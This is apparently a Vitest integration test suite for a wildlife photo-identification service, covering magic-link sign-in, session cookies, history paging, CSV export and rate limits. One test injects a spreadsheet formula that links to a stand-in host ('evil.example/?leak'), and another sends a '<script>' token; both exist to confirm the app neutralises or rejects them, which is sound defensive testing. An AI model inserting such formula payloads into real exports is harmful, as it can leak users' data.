import { randomUUID } from 'node:crypto';
import type { IdentificationView } from '@wildid/common';
import { validAnimalAnswer } from '@wildid/common/testing';
import { io } from 'socket.io-client';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { type Browser, asBrowser, receiveSignInLink, requestMagicLink, sessionCookieOf, signIn, submitSignIn } from './support/accounts';
import { connectSocket, followIdentification, uploadOk } from './support/api-client';
import { AppProcess, freePort } from './support/app-process';
import { testPrisma } from './support/database';
import { makeJpeg } from './support/images';
import { RawHttpRequest } from './support/raw-http';
import { type SignedInStack, startSignedInStack, uploadAs as uploadPhotoAs } from './support/signed-in-stack';
import type { SmtpTestServer } from './support/smtp-test-server';
import { type TestStack, startTestStack } from './support/test-stack';

const SECRET_KEY = 'accounts-test-secret-0123456789abcdef0123456789';

describe('accounts: magic-link sign-in, sessions and history', () => {
  let env: SignedInStack;
  let stack: TestStack;
  let mailer: AppProcess;
  let smtp: SmtpTestServer;
  const prisma = testPrisma();

  beforeAll(async () => {
    env = await startSignedInStack({ secretKey: SECRET_KEY, gatewayEnv: { ADMIN_EMAILS: 'Admin@Example.org' } });
    ({ stack, mailer, smtp } = env);
  });

  afterEach((context) => {
    if (context.task.result?.state === 'fail') console.log(mailer.logs.slice(-3000));
  });

  afterAll(async () => {
    await env?.stop();
    await prisma.$disconnect();
  });

  const uploadAs = (browser: Browser | undefined) => uploadPhotoAs(stack.gatewayUrl, browser);

  it('signs in through the emailed link, then uploads, is pushed the result and finds it in history', async () => {
    const email = 'Fox.Watcher@Example.org';
    const browser = await signIn(stack.gatewayUrl, smtp, email);

    const me = await fetch(`${stack.gatewayUrl}/api/me`, { headers: asBrowser(browser) });
    expect(me.status).toBe(200);
    const user = (await me.json()) as { id: string; email: string; isAdmin: boolean };
    expect(user).toMatchObject({ email: 'fox.watcher@example.org', isAdmin: false });

    const socket = io(stack.gatewayUrl, { transports: ['websocket'], reconnection: false, extraHeaders: { cookie: browser.cookie } });
    const events: IdentificationView[] = [];
    const completed = new Promise<void>((resolve) =>
      socket.on('identification', (view: IdentificationView) => {
        events.push(view);
        if (view.status === 'completed') resolve();
      }),
    );
    await new Promise<void>((resolve) => socket.once('connect', () => resolve()));
    const created = await uploadAs(browser);
    await completed;
    socket.disconnect();
    expect(events.every((event) => event.id === created.id)).toBe(true);
    expect(events.map((event) => event.status)).toContain('processing');

    const history = await fetch(`${stack.gatewayUrl}/api/me/identifications`, { headers: asBrowser(browser) });
    const page = (await history.json()) as { items: Array<Record<string, unknown>>; nextCursor: string | null };
    expect(page.items[0]).toMatchObject({ id: created.id, status: 'completed', commonName: 'Red fox', scientificName: 'Vulpes vulpes' });

    const image = await fetch(page.items[0].imageUrl as string, { headers: asBrowser(browser) });
    expect(image.status).toBe(200);
    expect(image.headers.get('content-type')).toBe('image/jpeg');

    const row = await prisma.identification.findUniqueOrThrow({ where: { id: created.id }, include: { image: true } });
    expect(row.userId).toBe(user.id);
    expect(row.expiresAt).toBeNull();
    expect(row.image).not.toBeNull();
  });

  it('sets the session cookie httpOnly, SameSite=Lax, on the public path, signed', async () => {
    await requestMagicLink(stack.gatewayUrl, 'cookie@example.org');
    const link = await receiveSignInLink(smtp, 'cookie@example.org');
    const response = await submitSignIn(stack.gatewayUrl, link.searchParams.get('token')!);
    const header = response.headers.getSetCookie().find((cookie) => cookie.startsWith('wildid_session='))!;
    expect(header).toMatch(/HttpOnly/);
    expect(header).toMatch(/SameSite=Lax/);
    expect(header).toMatch(/Path=\//);
    expect(header).not.toMatch(/Secure/);
    expect(decodeURIComponent(header)).toMatch(/^wildid_session=s:/);
    expect(response.headers.get('location')).toBe('/');

    const tampered = sessionCookieOf(response).replace(/.$/, (char) => (char === 'A' ? 'B' : 'A'));
    expect((await fetch(`${stack.gatewayUrl}/api/me`, { headers: { cookie: tampered } })).status).toBe(401);
  });

  it('does not use the token up on GET (mail scanners), only once on POST', async () => {
    await requestMagicLink(stack.gatewayUrl, 'scanner@example.org');
    const link = await receiveSignInLink(smtp, 'scanner@example.org');
    for (let i = 0; i < 2; i++) {
      const page = await fetch(`${stack.gatewayUrl}/auth/verify${link.search}`);
      expect(page.status).toBe(200);
      expect(await page.text()).toMatch(/<button type="submit">Sign in<\/button>/);
    }
    const token = link.searchParams.get('token')!;
    expect((await submitSignIn(stack.gatewayUrl, token)).status).toBe(303);

    const reused = await submitSignIn(stack.gatewayUrl, token);
    expect(reused.status).toBe(400);
    expect(await reused.text()).toMatch(/already used/);
    const page = await fetch(`${stack.gatewayUrl}/auth/verify${link.search}`);
    expect(page.status).toBe(400);
    expect(await page.text()).toMatch(/already used[\s\S]*Send me a new link/);
  });

  it('refuses an expired token with a page offering a new link', async () => {
    await requestMagicLink(stack.gatewayUrl, 'late@example.org');
    const link = await receiveSignInLink(smtp, 'late@example.org');
    await prisma.magicLinkToken.updateMany({ where: { email: 'late@example.org' }, data: { expiresAt: new Date(Date.now() - 1000) } });
    const page = await fetch(`${stack.gatewayUrl}/auth/verify${link.search}`);
    expect(page.status).toBe(400);
    expect(await page.text()).toMatch(/expired[\s\S]*Send me a new link/);
    expect((await submitSignIn(stack.gatewayUrl, link.searchParams.get('token')!)).status).toBe(400);
  });

  it('refuses a tampered token', async () => {
    await requestMagicLink(stack.gatewayUrl, 'tamper@example.org');
    const token = (await receiveSignInLink(smtp, 'tamper@example.org')).searchParams.get('token')!;
    const tampered = `${token.slice(0, -2)}${token.endsWith('AA') ? 'BB' : 'AA'}`;
    const response = await submitSignIn(stack.gatewayUrl, tampered);
    expect(response.status).toBe(400);
    expect(await response.text()).toMatch(/not valid/);
    expect((await fetch(`${stack.gatewayUrl}/auth/verify?token=${encodeURIComponent('<script>')}`)).status).toBe(400);
  });

  it('answers 202 for an unknown address and creates the account on first sign-in only', async () => {
    const email = 'newcomer@example.org';
    expect(await prisma.user.count({ where: { email } })).toBe(0);
    const response = await requestMagicLink(stack.gatewayUrl, email);
    expect(response).toMatchObject({ status: 202, body: { ok: true } });
    expect(await prisma.user.count({ where: { email } })).toBe(0);
    const link = await receiveSignInLink(smtp, email);
    await submitSignIn(stack.gatewayUrl, link.searchParams.get('token')!);
    expect(await prisma.user.count({ where: { email } })).toBe(1);
    const tokens = await prisma.magicLinkToken.findMany({ where: { email } });
    expect(tokens.every((row) => row.tokenHash !== link.searchParams.get('token'))).toBe(true);
  });

  it('answers 400 for a malformed address and sends nothing', async () => {
    for (const email of ['not-an-email', '', 'a@', `${'x'.repeat(250)}@example.org`]) {
      const response = await requestMagicLink(stack.gatewayUrl, email);
      expect(response.status).toBe(400);
      expect(response.body.message).toMatch(/valid email address/);
    }
  });

  it('marks ADMIN_EMAILS as admins, case-insensitively', async () => {
    const browser = await signIn(stack.gatewayUrl, smtp, 'admin@example.org');
    const me = await fetch(`${stack.gatewayUrl}/api/me`, { headers: asBrowser(browser) });
    expect(await me.json()).toMatchObject({ isAdmin: true });
  });

  it('logs out everywhere: the cookie stops working on every gateway', async () => {
    const browser = await signIn(stack.gatewayUrl, smtp, 'leaver@example.org');
    const port = await freePort();
    const other = await AppProcess.start('gateway', { ...stack.env, SECRET_KEY, PORT: String(port), PUBLIC_URL: stack.gatewayUrl });
    try {
      const otherUrl = `http://127.0.0.1:${port}`;
      expect((await fetch(`${otherUrl}/api/me`, { headers: { cookie: browser.cookie } })).status).toBe(200);
      const logout = await fetch(`${stack.gatewayUrl}/api/auth/logout`, { method: 'POST', headers: asBrowser(browser) });
      expect(logout.status).toBe(204);
      expect(logout.headers.getSetCookie().join()).toMatch(/wildid_session=;/);
      expect((await fetch(`${stack.gatewayUrl}/api/me`, { headers: { cookie: browser.cookie } })).status).toBe(401);
      expect((await fetch(`${otherUrl}/api/me`, { headers: { cookie: browser.cookie } })).status).toBe(401);
    } finally {
      await other.stop();
    }
  });

  it('deletes an identification and its image for its owner', async () => {
    const owner = await signIn(stack.gatewayUrl, smtp, 'deleter@example.org');
    const created = await uploadAs(owner);
    const response = await fetch(`${stack.gatewayUrl}/api/identifications/${created.id}`, { method: 'DELETE', headers: asBrowser(owner) });
    expect(response.status).toBe(204);
    expect((await fetch(`${stack.gatewayUrl}/api/identifications/${created.id}`, { headers: asBrowser(owner) })).status).toBe(404);
    expect(await prisma.identification.count({ where: { id: created.id } })).toBe(0);
    expect(await prisma.identificationImage.count({ where: { identificationId: created.id } })).toBe(0);
  });

  it('claims an anonymous identification made in this browser before signing in', async () => {
    const anonymous = await uploadAs(undefined);
    const socket = await connectSocket(stack.gatewayUrl);
    await followIdentification(socket, anonymous);
    socket.disconnect();
    const browser = await signIn(stack.gatewayUrl, smtp, 'claimer@example.org');
    const claim = await fetch(`${stack.gatewayUrl}/api/me/identifications/claim`, {
      method: 'POST',
      headers: asBrowser(browser, { 'content-type': 'application/json' }),
      // A stale copy of the same id with a wrong token, and an id that does not exist, claim nothing more.
      body: JSON.stringify({ identifications: [anonymous, { id: anonymous.id, accessToken: 'nope' }, { id: randomUUID(), accessToken: 'nope' }] }),
    });
    expect(await claim.json()).toEqual({ claimed: 1 });
    const history = (await (await fetch(`${stack.gatewayUrl}/api/me/identifications`, { headers: asBrowser(browser) })).json()) as {
      items: Array<{ id: string }>;
    };
    expect(history.items.map((item) => item.id)).toEqual([anonymous.id]);
    const row = await prisma.identification.findUniqueOrThrow({ where: { id: anonymous.id } });
    expect(row.expiresAt).toBeNull();
  });

  it('pages the history newest first with a cursor and exports it as CSV', async () => {
    const browser = await signIn(stack.gatewayUrl, smtp, 'lister@example.org');
    const ids: string[] = [];
    const socket = await connectSocket(stack.gatewayUrl);
    for (let i = 0; i < 3; i++) {
      const created = await uploadAs(browser);
      await followIdentification(socket, created);
      ids.push(created.id);
    }
    socket.disconnect();
    const first = (await (await fetch(`${stack.gatewayUrl}/api/me/identifications?limit=2`, { headers: asBrowser(browser) })).json()) as {
      items: Array<{ id: string }>;
      nextCursor: string;
    };
    expect(first.items.map((item) => item.id)).toEqual([ids[2], ids[1]]);
    const second = (await (
      await fetch(`${stack.gatewayUrl}/api/me/identifications?limit=2&cursor=${first.nextCursor}`, { headers: asBrowser(browser) })
    ).json()) as { items: Array<{ id: string }>; nextCursor: string | null };
    expect(second).toEqual({ items: [expect.objectContaining({ id: ids[0] })], nextCursor: null });
    expect((await fetch(`${stack.gatewayUrl}/api/me/identifications?limit=500`, { headers: asBrowser(browser) })).status).toBe(400);
    expect((await fetch(`${stack.gatewayUrl}/api/me/identifications`)).status).toBe(401);

    const csv = await fetch(`${stack.gatewayUrl}/api/me/identifications/export?format=csv`, { headers: asBrowser(browser) });
    expect(csv.headers.get('content-type')).toMatch(/^text\/csv/);
    expect(csv.headers.get('content-disposition')).toMatch(/attachment; filename="wildid-history.csv"/);
    const lines = (await csv.text()).trim().split('\r\n');
    expect(lines[0]).toBe(
      '"date","status","common_name","scientific_name","confidence","kingdom","phylum","class","order","family","genus","species","conservation_status",' +
        '"captured_at","latitude","longitude","coordinate_uncertainty_m","country","batch","file_name","event_id","review","review_note","reviewed_by",' +
        '"reviewed_at","identified_as_common_name","identified_as_scientific_name","method","id"',
    );
    expect(lines).toHaveLength(4);
    expect(lines[1]).toMatch(
      /^"\d{4}-\d\d-\d\dT[^,]+","completed","Red fox","Vulpes vulpes","0\.93","Animalia","Chordata","Mammalia","Carnivora","Canidae","Vulpes","Vulpes vulpes","LC",/,
    );
  });
  it('exports a hostile model answer with every field quoted and its formulas neutralised', async () => {
    const browser = await signIn(stack.gatewayUrl, smtp, 'spreadsheet@example.org');
    stack.fake.script({ kind: 'answer', content: validAnimalAnswer({ commonName: 'x;=HYPERLINK("http://evil.example/?leak","Fox")' }) });
    const socket = await connectSocket(stack.gatewayUrl);
    await followIdentification(socket, await uploadAs(browser));
    socket.disconnect();

    const csv = await fetch(`${stack.gatewayUrl}/api/me/identifications/export?format=csv`, { headers: asBrowser(browser) });
    const line = (await csv.text()).trim().split('\r\n')[1];

    expect(line).toContain(',"completed","x;\'=HYPERLINK(""http://evil.example/?leak"",""Fox"")","Vulpes vulpes",');
  });
});

describe('rate limits (Redis-backed, shared by gateways)', () => {
  let stack: TestStack;
  let second: AppProcess;
  let secondUrl: string;

  beforeAll(async () => {
    stack = await startTestStack({
      withWorker: false,
      gatewayEnv: { RATE_LIMIT_MAGIC_LINK_PER_EMAIL_HOUR: '2', RATE_LIMIT_MAGIC_LINK_PER_IP_HOUR: '4', RATE_LIMIT_UPLOADS_PER_MINUTE: '2' },
    });
    const port = await freePort();
    secondUrl = `http://127.0.0.1:${port}`;
    second = await AppProcess.start('gateway', {
      ...stack.env,
      PORT: String(port),
      PUBLIC_URL: stack.gatewayUrl,
      RATE_LIMIT_MAGIC_LINK_PER_EMAIL_HOUR: '2',
      RATE_LIMIT_MAGIC_LINK_PER_IP_HOUR: '4',
      RATE_LIMIT_UPLOADS_PER_MINUTE: '2',
    });
  });

  afterAll(async () => {
    await second?.stop();
    await stack?.stop();
  });

  it('limits links per address across gateways with 429, Retry-After and a readable wait', async () => {
    expect((await requestMagicLink(stack.gatewayUrl, 'busy@example.org')).status).toBe(202);
    expect((await requestMagicLink(secondUrl, 'BUSY@example.org')).status).toBe(202);
    const limited = await requestMagicLink(stack.gatewayUrl, 'busy@example.org');
    expect(limited.status).toBe(429);
    expect(Number(limited.headers.get('retry-after'))).toBeGreaterThan(3000);
    expect(limited.body).toMatchObject({ statusCode: 429, error: 'Too Many Requests' });
    expect(limited.body.message).toMatch(/Too many sign-in links for this address\. Try again in \d+ minutes\./);
  });

  it('limits links per client IP', async () => {
    expect((await requestMagicLink(stack.gatewayUrl, 'ip-1@example.org')).status).toBe(202);
    const limited = await requestMagicLink(stack.gatewayUrl, 'ip-2@example.org');
    expect(limited.status).toBe(429);
    expect(limited.body.message).toMatch(/from your network/);
  });

  it('limits anonymous uploads per IP per minute', async () => {
    const photo = await makeJpeg({ seed: 900 });
    await uploadOk(stack.gatewayUrl, photo);
    await uploadOk(secondUrl, photo);
    // Refused on its headers with the connection closed: sending the body too could race the close (EPIPE).
    const limited = RawHttpRequest.post(stack.gatewayUrl, '/api/identifications', {
      'content-type': 'multipart/form-data; boundary=x',
      'content-length': photo.length,
    });
    const answer = await limited.answer;
    expect(answer.status).toBe(429);
    expect(Number(answer.headers['retry-after'])).toBeGreaterThan(0);
    expect((JSON.parse(answer.body) as { message: string }).message).toMatch(/Too many uploads/);
    limited.destroy();
  });
});
